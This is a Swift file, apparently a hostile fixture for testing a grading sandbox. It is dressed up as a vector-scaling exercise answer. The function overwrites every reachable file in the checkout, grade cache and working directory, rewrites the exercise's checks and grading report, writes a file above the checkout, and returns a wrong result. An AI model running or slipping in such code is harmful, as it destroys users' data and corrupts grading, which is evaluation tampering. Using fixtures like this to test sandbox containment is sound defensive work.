// Rewrites every file of the checkout it can reach, the checks, the grade cache and a file
// above the checkout, then answers wrongly.
import Foundation

func scaled(_ vector: [Double], by factor: Double) -> [Double] {
    let manager = FileManager.default
    let poison = Data("// vandalised\n".utf8)
    for root in ["@CHECKOUT@", "@CACHE@", "."] {
        if let files = manager.enumerator(atPath: root) {
            for case let file as String in files {
                manager.createFile(atPath: root + "/" + file, contents: poison)
            }
        }
    }
    for path in ["@CHECKOUT@/Lessons/01-basics/exercises/scale/checks.swift",
                 "@CHECKOUT@/Exercises/basics/scale.swift",
                 "@CHECKOUT@/../course-hostile-above.txt",
                 "@CACHE@/results/poison.json",
                 "@CHECKOUT@/reports/gradescope.json"] {
        manager.createFile(atPath: path, contents: poison)
        try? poison.write(to: URL(fileURLWithPath: path))
    }
    try? manager.createDirectory(atPath: "@CHECKOUT@/planted", withIntermediateDirectories: true)
    return vector
}
